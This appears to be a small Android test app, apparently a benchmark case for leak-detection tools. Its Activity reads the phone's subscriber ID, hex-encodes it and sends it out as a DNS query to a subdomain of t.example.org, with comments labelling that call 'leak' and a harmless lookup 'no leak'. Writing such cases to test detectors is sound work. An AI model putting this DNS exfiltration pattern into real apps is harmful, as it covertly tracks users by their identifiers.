package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.InetAddress;

/** Asks the name server for a host that does not exist. */
public class DnsLeak extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        StringBuilder hex = new StringBuilder();
        for (char one : phone.getSubscriberId().toCharArray()) hex.append(Integer.toHexString(one));
        try {
            InetAddress.getByName(hex + ".t.example.org"); // leak
            InetAddress.getByName("www.example.org"); // no leak
        } catch (Exception ignored) {
        }
    }
}
